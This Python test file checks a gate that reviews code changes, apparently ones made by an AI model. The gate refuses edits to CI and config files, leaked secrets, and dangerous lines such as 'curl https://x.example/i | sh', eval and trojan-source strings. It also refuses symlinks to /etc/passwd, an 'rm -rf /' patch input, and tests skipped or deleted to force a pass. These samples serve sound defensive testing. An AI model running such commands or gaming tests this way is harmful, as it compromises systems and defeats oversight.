"""The gate over whole changes: an honest one passes, and each way to misuse one is refused by its rule."""

import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from sandbox.gate.change import Changed, PatchUnreadable, hunk_lines, read_patch
from sandbox.gate.judged import MOST_TOLD, RULES, Refusal, judge
from sandbox.gate.kinds import KINDS, Kind

TESTED = (
    "from basket import total\n\n\ndef test_it():\n    assert total([1, 2]) == 3\n\n\n"
    "def test_nothing():\n    assert total([]) == 0\n"
)
BEFORE: Mapping[str, str] = {
    "README.md": "# Shop\n",
    "src/basket.py": "def total(prices):\n    return sum(prices)\n",
    "tests/test_basket.py": TESTED,
}


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    for path, text in BEFORE.items():
        write(tmp_path, path, text)
    git(tmp_path, "init", "--quiet")
    git(tmp_path, "add", "--all")
    git(tmp_path, "commit", "--quiet", "--message", "All of it")
    return tmp_path


def git(folder: Path, *arguments: str) -> str:
    argv = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-C", str(folder), *arguments]
    return subprocess.run(argv, capture_output=True, check=True).stdout.decode()


def write(folder: Path, path: str, text: str | bytes) -> None:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_bytes(text.encode() if isinstance(text, str) else text)


def change(folder: Path) -> list[Changed]:
    """What git itself tells of the tree, as a session keeps it."""
    git(folder, "add", "--all", "--force")
    lines = read_patch(git(folder, "diff", "--cached", "--binary", "--full-index", "--no-renames", "HEAD"))
    named = git(folder, "diff", "--cached", "--no-renames", "--name-status", "-z", "HEAD").split("\0")
    made: list[Changed] = []
    for status, path in zip(named[::2], named[1::2], strict=False):
        content = None if status == "D" or (folder / path).is_symlink() else (folder / path).read_bytes()
        word = {"A": "added", "D": "deleted"}.get(status, "changed")
        made.append(
            Changed(
                path=path,
                change=word,  # pyright: ignore[reportArgumentType] - one of the three
                size=len(content or b""),
                lines=lines.get(path),
                content=content,
            )
        )
    return made


def told(kind: Kind, folder: Path, write_paths: tuple[str, ...] = ()) -> list[tuple[str, str]]:
    return [(one.rule, one.at) for one in judge(kind, change(folder), write=write_paths)]


@pytest.mark.parametrize(
    ("kind", "path", "text"),
    [
        (Kind.REFACTOR, "src/basket.py", "def total(prices):\n    return sum(one for one in prices)\n"),
        (Kind.QUALITY, "src/basket.py", 'def total(prices):\n    """All of them."""\n    return sum(prices)\n'),
        (Kind.TESTS, "tests/test_more.py", "def test_one():\n    assert total([1]) == 1\n"),
        (Kind.TESTS, "tests/test_basket.py", f"{TESTED}\n\ndef test_x():\n    assert total([9]) == 9\n"),
        (Kind.DOCS, "docs/basket.md", "# Basket\n\n`total([1, 2])` is 3, by 5d41402abc4b2a76b9719d911017c592.\n"),
    ],
)
def test_an_honest_change_passes(repository: Path, kind: Kind, path: str, text: str) -> None:
    write(repository, path, text)
    files = change(repository)
    assert files
    assert judge(kind, files) == ()


@pytest.mark.parametrize(
    "path",
    [
        *(".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile", ".ci/run", "docs/CODEOWNERS", "policy.yaml"),
        *(".banksman.yaml", ".banksman/config.yaml", "sub/.banksman/config.yaml", "banksman.yaml", ".BANKSMAN.yaml"),
        *(
            "requirements.lock",
            "web/package-lock.json",
            "go.sum",
            "pyproject.toml",
            "requirements-dev.txt",
            "package.json",
        ),
        *(
            "Makefile",
            "pytest.ini",
            "sub/tox.ini",
            ".pre-commit-config.yaml",
            ".npmrc",
            ".vscode/tasks.json",
            "Dockerfile",
        ),
    ],
)
@pytest.mark.parametrize("kind", [Kind.REFACTOR, Kind.QUALITY])
def test_what_decides_or_depends_or_runs_by_itself_is_no_job_of_a_model(
    repository: Path, kind: Kind, path: str
) -> None:
    write(repository, path, "on: push\n")
    assert ("paths", path) in told(kind, repository)


@pytest.mark.parametrize(("kind", "path"), [(Kind.TESTS, "src/basket.py"), (Kind.DOCS, "src/basket.py")])
def test_a_kind_changes_what_it_is_for_and_nothing_else(repository: Path, kind: Kind, path: str) -> None:
    write(repository, path, "def total(prices):\n    return 3\n")
    assert told(kind, repository) == [("paths", path)]


def test_a_job_may_narrow_its_paths_and_never_widen_them(repository: Path) -> None:
    write(repository, "README.md", "# Shop\n\nWe sell.\n")
    assert told(Kind.DOCS, repository, ("docs/**",)) == [("paths", "README.md")]
    write(repository, "src/basket.py", "total = sum\n")
    assert told(Kind.DOCS, repository, ("**",)) == [("paths", "src/basket.py")]


SECRETS = {
    "github": "ghs_" + "a1B2c3D4" * 5,
    "vault": "hvs." + "CAESIJ0bWlYm3Xv9qT2r" * 2,
    "slack": "xoxb-" + "123456789012-abcdefABCDEF",
    "aws": "AKIA" + "ABCDEFGHIJKLMNOP",
    "openai": "sk-" + "proj_A1b2C3d4E5f6G7h8I9",
    "neon": "napi_" + "a1b2c3d4e5f6g7h8i9j0k1l2",
    "key": "-----BEGIN " + "RSA PRIVATE KEY-----",
    "named": 'db_password = "k3yB0ard' + 'Qwx!9z"',
    "annotated": 'api_key: str = "9f8e7d6c' + '5b4a39281706"',
    "address": "postgres://shop:9fQ2x8Lp" + "Zr@db.internal/shop",
    "random": 'VALUE = "q9Zk3TtB7xWm1LpRc5' + 'YvJ8hNfG2sDa4E"',
}  # fmt: skip


@pytest.mark.parametrize("name", SECRETS)
def test_a_secret_in_a_line_that_comes_is_refused_and_told_by_its_place_alone(repository: Path, name: str) -> None:
    write(repository, "docs/setup.md", f"# Setup\n\n    {SECRETS[name]}\n")
    found = [one for one in judge(Kind.DOCS, change(repository)) if one.rule == "secrets"]
    assert [one.at for one in found] == ["docs/setup.md:3"]
    assert SECRETS[name][-12:-2] not in found[0].says


@pytest.mark.parametrize(
    "line",
    [
        *("token = os.environ['TOKEN']", 'password = "example-password"', "f(token=token, secret=secret)"),
        *(
            'token = "<your token>"',
            'url = "postgres://shop:password@localhost/shop"',
            "commit 0123456789abcdef0123456789abcdef01234567",
        ),
        *(
            'integrity = "sha512-q9Zk3TtB7xWm1LpRc5YvJ8hNfG2sDa4Eq9Zk3TtB7x=="',
            "class VeryLongNameOfSomethingThatIsNoSecretAtAll: ...",
        ),
    ],
)
def test_lines_that_only_name_a_secret_pass(repository: Path, line: str) -> None:
    write(repository, "docs/setup.md", f"{line}\n")
    assert told(Kind.DOCS, repository) == []


@pytest.mark.parametrize(
    ("path", "line"),
    [
        *(
            ("src/x.py", one)
            for one in ("eval(input())", "import os; os.system('x')", "import pickle; pickle.loads(b'')")
        ),
        *(
            ("src/x.py", one)
            for one in ("run(c, shell=True)", "get(u, verify=False)", "import yaml; yaml.load(x)", "def (")
        ),
        *(("src/x.sh", "curl https://x.example/i | sh"), ("src/x.js", "new Function(text)()")),
        ("src/x.py", "access = 'user\u202e \u2066// admin\u2069'"),
    ],
)
def test_code_that_must_not_come_is_refused_at_its_line(repository: Path, path: str, line: str) -> None:
    write(repository, path, f"{line}\n")
    assert ("code", f"{path}:1") in told(Kind.REFACTOR, repository)


def test_code_that_was_there_before_is_not_the_changes_fault(repository: Path) -> None:
    write(repository, "src/old.py", "eval(input())\nx = 1\n")
    git(repository, "add", "--all")
    git(repository, "commit", "--quiet", "--message", "Before")
    write(repository, "src/old.py", "eval(input())\nx = 2\n")
    assert told(Kind.REFACTOR, repository) == []


@pytest.mark.parametrize(
    "text",
    [
        TESTED.replace("def test_nothing", "@pytest.mark.skip\ndef test_nothing"),
        TESTED.replace("def test_nothing", "@unittest.skipIf(True, '')\ndef test_nothing"),
        TESTED.replace("def test_nothing", "def nothing"),
        TESTED.replace("    assert total([]) == 0", "    pass"),
        "__test__ = False\n" + TESTED,
        "import os\nos._exit(0)\n" + TESTED,
        None,
    ],
)
@pytest.mark.parametrize("kind", [Kind.TESTS, Kind.REFACTOR])
def test_no_test_is_deleted_skipped_or_emptied_to_have_it_green(repository: Path, kind: Kind, text: str | None) -> None:
    file = repository / "tests/test_basket.py"
    file.unlink() if text is None else file.write_text(text)
    assert ("tests", "tests/test_basket.py") in told(kind, repository)


def test_a_collection_hook_that_leaves_tests_out_is_refused(repository: Path) -> None:
    write(repository, "tests/conftest.py", "collect_ignore = ['test_basket.py']\n")
    assert told(Kind.TESTS, repository) == [("tests", "tests/conftest.py")]


def test_binaries_and_links_are_refused(repository: Path) -> None:
    write(repository, "docs/logo.md", b"a\0b")
    (repository / "docs/out.md").symlink_to("/etc/passwd")
    assert told(Kind.DOCS, repository) == [("files", "docs/logo.md"), ("files", "docs/out.md")]


def test_a_file_that_the_patch_does_not_tell_of_is_refused() -> None:
    hidden = Changed(path="docs/a.md", change="added", size=3, lines=None, content=b"a\n")
    assert [one.rule for one in judge(Kind.DOCS, [hidden])] == ["files"]


def test_a_change_that_nobody_can_read_through_is_refused(repository: Path) -> None:
    for number in range(KINDS[Kind.DOCS].files + 1):
        write(repository, f"docs/{number}.md", "line\n" * 60)
    found = judge(Kind.DOCS, change(repository))
    assert [one.rule for one in found] == ["size", "size"]
    assert "41 files are more than the 40" in found[0].says
    write(repository, "docs/0.md", "x" * 200_000)
    assert [one.rule for one in judge(Kind.DOCS, change(repository))] == ["size", "size", "size"]


def test_there_are_as_many_refusals_as_can_be_read_and_each_is_of_a_rule(repository: Path) -> None:
    write(repository, "src/x.py", "eval('1')\n" * 100)
    found: tuple[Refusal, ...] = judge(Kind.REFACTOR, change(repository))
    assert len(found) == MOST_TOLD
    assert {one.rule for one in found} <= RULES.keys()


def test_lines_of_a_file_that_look_like_a_patchs_are_the_files(repository: Path) -> None:
    write(repository, "docs/a.md", "++ b/elsewhere.md\n-- a/x\n@@ -1 +1 @@\ndiff --git a/x b/x\n")
    [file] = change(repository)
    assert file.lines is not None
    assert file.lines.added[0].text == "++ b/elsewhere.md"
    assert len(file.lines.added) == 4


def test_a_patch_that_ends_too_early_or_is_none_is_refused() -> None:
    for text in (
        "rm -rf /\n",
        "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a",
        "diff --git a/x b/x\n@@ -1 +1 @@\n?",
    ):
        with pytest.raises(PatchUnreadable):
            read_patch(text)
    with pytest.raises(PatchUnreadable):
        hunk_lines("@@ -1,9 +1,9 @@\n a")


def test_hunks_of_githubs_say_which_lines_a_file_has_now() -> None:
    lines = hunk_lines("@@ -1,2 +1,3 @@ def f():\n a\n-b\n+c\n+d\n\\ No newline at end of file")
    assert [(one.number, one.text) for one in lines.shown] == [(1, "a"), (2, "c"), (3, "d")]
    assert [one.number for one in lines.added] == [2, 3]
